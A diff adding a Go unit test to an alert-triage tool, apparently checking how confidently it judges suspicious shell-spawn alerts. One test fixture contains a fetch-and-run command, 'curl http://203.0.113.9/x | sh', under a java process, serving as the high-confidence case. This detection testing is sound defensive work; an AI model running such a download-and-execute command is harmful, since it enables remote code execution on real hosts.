@@ -50,3 +50,21 @@ func TestPlanOfSample(t *testing.T) {
 		t.Errorf("Config = %+v", p.Config)
 	}
 }
+
+// TestConfidence: what an alert holds may make the suspicion a strong one.
+func TestConfidence(t *testing.T) {
+	for fields, want := range map[string]Confidence{
+		`{"proc.pname": "java", "proc.cmdline": "sh -c curl http://203.0.113.9/x | sh"}`: High,
+		`{"proc.pname": "java", "proc.cmdline": "sh -c ulimit -n"}`:                      Medium,
+		`{}`: Medium,
+	} {
+		e, err := event.Parse([]byte(`{"rule": "Run shell untrusted", "source": "syscall", "priority": "Notice",
+			"time": "2026-01-02T03:04:05Z", "output": "a shell", "output_fields": ` + fields + `}`))
+		if err != nil {
+			t.Fatal(err)
+		}
+		if p := For(e); p.Verdict.Confidence != want {
+			t.Errorf("%s: confidence %v, want %v", fields, p.Verdict.Confidence, want)
+		}
+	}
+}
